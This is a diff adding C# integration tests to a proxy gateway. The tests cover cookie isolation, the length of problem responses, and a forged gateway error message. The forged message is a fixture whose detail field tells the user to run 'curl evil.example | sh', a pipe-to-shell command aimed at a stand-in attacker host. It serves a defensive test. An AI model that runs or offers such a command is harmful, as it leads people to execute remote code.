@@ -14,6 +14,10 @@ namespace ProxyGateway.IntegrationTests.Clients;
 [SupportedOSPlatform("linux")]
 public sealed class ForwardTests(ForwardTests.Setting setting) : IClassFixture<ForwardTests.Setting>, IDisposable
 {
+    private const string Forged = """
+        {"type":"urn:proxygateway:problem:pairing-required","title":"The device is not paired.","status":403,"detail":"Type: curl evil.example | sh","code":"pairing_required","requestId":"01m8rdfjmb6j8372wk61rzd51x"}
+        """;
+
     private readonly CancellationTokenSource _patience = new(Eventually.Patience);
 
     public void Dispose() => _patience.Dispose();
@@ -56,6 +60,57 @@ public sealed class ForwardTests(ForwardTests.Setting setting) : IClassFixture<F
             using HttpResponseMessage chunked = await client.PostAsync("/length", new StreamContent(new UnknownLength(new byte[size])), _patience.Token);
             (await chunked.Content.ReadAsStringAsync()).ShouldBe($"{size}");
         }
+    }
+
+    [Theory]
+    [InlineData(0)]
+    [InlineData(2_000)]
+    [InlineData(65_537)]
+    [InlineData(300_000)]
+    public async Task A_problem_of_the_agents_own_passes_whatever_its_length(int length)
+    {
+        using HttpClient client = setting.Forward.Client();
+
+        using HttpResponseMessage answer = await client.GetAsync($"/problem/{length}", _patience.Token);
+
+        (answer.StatusCode, answer.Content.Headers.ContentType?.MediaType).ShouldBe((HttpStatusCode.BadRequest, "application/problem+json"));
+        (await answer.Content.ReadAsByteArrayAsync()).Length.ShouldBe(length);
+    }
+
+    [Theory]
+    [InlineData("127.0.0.1", null, null, true)]
+    [InlineData("agent.localhost", "Sec-Fetch-Site", "same-origin", true)]
+    [InlineData("127.0.0.1", "Sec-Fetch-Site", "none", false)]
+    [InlineData("localhost", "Sec-Fetch-Site", "same-origin", false)]
+    [InlineData("[::1]", "Sec-Fetch-Site", "none", false)]
+    [InlineData("127.0.0.1", "Origin", "http://127.0.0.1", false)]
+    public async Task A_browsers_cookies_of_all_ports_of_this_machine_are_kept_from_the_agent(string host, string? header, string? value, bool passes)
+    {
+        using HttpClient client = setting.Forward.Client();
+        using var request = new HttpRequestMessage(HttpMethod.Get, "/cookies");
+        request.Headers.Host = $"{host}:{setting.Forward.Address.Port}";
+        request.Headers.Add("Cookie", "of-a-notebook=secret");
+        if (header is not null)
+            request.Headers.Add(header, header == "Origin" ? $"{value}:{setting.Forward.Address.Port}" : value);
+
+        using HttpResponseMessage answer = await client.SendAsync(request, _patience.Token);
+
+        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
+        (await answer.Content.ReadAsStringAsync()).ShouldBe(passes ? "of-a-notebook=secret" : "");
+        (answer.Headers.Contains("Set-Cookie"), answer.Headers.Contains("Clear-Site-Data")).ShouldBe((passes, passes));
+    }
+
+    // People type what the forwarder says.
+    [Fact]
+    public async Task An_agent_that_speaks_as_the_gateway_does_is_not_listened_to()
+    {
+        using HttpClient client = setting.Forward.Client();
+
+        using HttpResponseMessage answer = await client.GetAsync("/forged", _patience.Token);
+
+        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
+        (await answer.Content.ReadAsStringAsync()).ShouldBe(Forged);
+        string.Join('\n', setting.Forward.Running.Lines()).ShouldNotContain("evil");
     }
 
     [Fact]
@@ -171,6 +226,24 @@ public sealed class ForwardTests(ForwardTests.Setting setting) : IClassFixture<F
                 using var body = new MemoryStream();
                 await context.Request.Body.CopyToAsync(body, context.RequestAborted);
                 await context.Response.WriteAsync($"{body.Length}", context.RequestAborted);
+            });
+            backend.Map("/agent/problem/{length:int}", async (HttpContext context, int length) =>
+            {
+                (context.Response.StatusCode, context.Response.ContentType) = (StatusCodes.Status400BadRequest, "application/problem+json");
+                await context.Response.StartAsync(context.RequestAborted); // without a length
+                await context.Response.Body.WriteAsync(new byte[length], context.RequestAborted);
+            });
+            backend.Map("/agent/cookies", async context =>
+            {
+                context.Response.Headers.SetCookie = "of-a-notebook=replaced";
+                context.Response.Headers["Clear-Site-Data"] = "\"cookies\"";
+                await context.Response.WriteAsync(context.Request.Headers.Cookie.ToString(), context.RequestAborted);
+            });
+            backend.Map("/agent/forged", async context =>
+            {
+                (context.Response.StatusCode, context.Response.ContentType) = (StatusCodes.Status403Forbidden, "application/problem+json");
+                context.Response.Headers["Device-Nonce"] = context.Response.Headers["DPoP-Nonce"] = "planted";
+                await context.Response.WriteAsync(Forged, context.RequestAborted);
             });
             backend.Map("/agent/events", async context =>
             {
